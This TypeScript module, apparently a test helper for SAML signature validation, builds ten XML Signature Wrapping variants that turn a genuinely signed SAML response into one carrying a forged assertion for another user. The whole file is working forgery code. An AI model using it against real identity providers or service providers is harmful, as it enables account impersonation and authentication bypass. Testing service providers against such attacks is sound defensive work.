import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/** Where a forged assertion is put beside the signed one: the eight of Somorovsky and others, "On Breaking SAML" (2012), and two more. */
export const WRAPPINGS = [
  'XSW1 the signed response within the signature of a forged one',
  'XSW2 the signed response beside the signature, in a forged one',
  'XSW3 a forged assertion before the signed one',
  'XSW4 the signed assertion within a forged one',
  'XSW5 a forged assertion with the signature, the signed one behind it',
  'XSW6 a forged assertion with the signature, the signed one within that',
  'XSW7 a forged assertion among extensions',
  'XSW8 the signed assertion in an object of the forged one’s signature',
  'a forged assertion behind the signed one',
  'a forged assertion in the advice of the signed one',
] as const;

/** One of {@link WRAPPINGS}. */
export type Wrapping = (typeof WRAPPINGS)[number];

const SIGNATURE = 'http://www.w3.org/2000/09/xmldsig#';
const ASSERTION = 'urn:oasis:names:tc:SAML:2.0:assertion';
const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';

/** A genuinely signed response with a forged assertion for somebody else in it; both base64. */
export function wrapped(
  base64: string,
  kind: Wrapping,
  forged: { readonly nameId: string; readonly keepsId: boolean },
): string {
  const document = new DOMParser().parseFromString(
    Buffer.from(base64, 'base64').toString('utf8'),
    'text/xml',
  );
  const response = document.documentElement;
  const original = only(response, ASSERTION, 'Assertion');
  const forge = (): Element => {
    const copy = clone(original);
    for (const signature of directly(copy, SIGNATURE, 'Signature')) copy.removeChild(signature);
    if (!forged.keepsId) copy.setAttribute('ID', '_forged');
    only(copy, ASSERTION, 'NameID').textContent = forged.nameId;
    return copy;
  };
  const forgedResponse = (): { readonly signature: Element; readonly inner: Element } => {
    const inner = clone(response);
    const [signature] = directly(response, SIGNATURE, 'Signature');
    if (signature === undefined) throw new Error('the response is not signed');
    for (const found of directly(inner, SIGNATURE, 'Signature')) inner.removeChild(found);
    if (!forged.keepsId) response.setAttribute('ID', '_forged');
    only(original, ASSERTION, 'NameID').textContent = forged.nameId;
    return { signature, inner };
  };
  const takeSignature = (): Element => {
    const [signature] = directly(original, SIGNATURE, 'Signature');
    if (signature === undefined) throw new Error('the assertion is not signed');
    original.removeChild(signature);
    return signature;
  };
  const make: Record<Wrapping, () => void> = {
    'XSW1 the signed response within the signature of a forged one': () => {
      const { signature, inner } = forgedResponse();
      signature.appendChild(inner);
    },
    'XSW2 the signed response beside the signature, in a forged one': () => {
      const { signature, inner } = forgedResponse();
      response.insertBefore(inner, signature);
    },
    'XSW3 a forged assertion before the signed one': () => {
      response.insertBefore(forge(), original);
    },
    'XSW4 the signed assertion within a forged one': () => {
      const evil = forge();
      response.replaceChild(evil, original);
      evil.appendChild(original);
    },
    'XSW5 a forged assertion with the signature, the signed one behind it': () => {
      const evil = forge();
      evil.insertBefore(takeSignature(), only(evil, ASSERTION, 'Subject'));
      response.replaceChild(evil, original);
      response.appendChild(original);
    },
    'XSW6 a forged assertion with the signature, the signed one within that': () => {
      const evil = forge();
      const signature = takeSignature();
      evil.insertBefore(signature, only(evil, ASSERTION, 'Subject'));
      response.replaceChild(evil, original);
      signature.appendChild(original);
    },
    'XSW7 a forged assertion among extensions': () => {
      const extensions = document.createElementNS(PROTOCOL, 'samlp:Extensions');
      extensions.appendChild(forge());
      response.insertBefore(extensions, original);
    },
    'XSW8 the signed assertion in an object of the forged one’s signature': () => {
      const evil = forge();
      const signature = takeSignature();
      evil.insertBefore(signature, only(evil, ASSERTION, 'Subject'));
      response.replaceChild(evil, original);
      const object = document.createElementNS(SIGNATURE, 'ds:Object');
      object.appendChild(original);
      signature.appendChild(object);
    },
    'a forged assertion behind the signed one': () => {
      response.appendChild(forge());
    },
    'a forged assertion in the advice of the signed one': () => {
      const advice = document.createElementNS(ASSERTION, 'saml:Advice');
      advice.appendChild(forge());
      original.appendChild(advice);
    },
  };
  make[kind]();
  return Buffer.from(new XMLSerializer().serializeToString(document)).toString('base64');
}

/** Whether a kind of wrapping needs the response to be signed, and not its assertion alone. */
export const needsSignedResponse = (kind: Wrapping): boolean => /^XSW[12] /.test(kind);

/** A response with its text changed; both base64. */
export const altered = (base64: string, change: (xml: string) => string): string =>
  Buffer.from(change(Buffer.from(base64, 'base64').toString('utf8'))).toString('base64');

const clone = (element: Element): Element => {
  const copy = element.cloneNode(true);
  if (copy.nodeType !== element.ELEMENT_NODE) throw new Error('no element');
  return copy as Element;
};

function only(parent: Element, namespace: string, name: string): Element {
  const found = parent.getElementsByTagNameNS(namespace, name)[0];
  if (found === undefined) throw new Error(`there is no ${name}`);
  return found;
}

function directly(parent: Element, namespace: string, name: string): readonly Element[] {
  return Array.from(parent.getElementsByTagNameNS(namespace, name)).filter(
    (one) => one.parentNode === parent,
  );
}
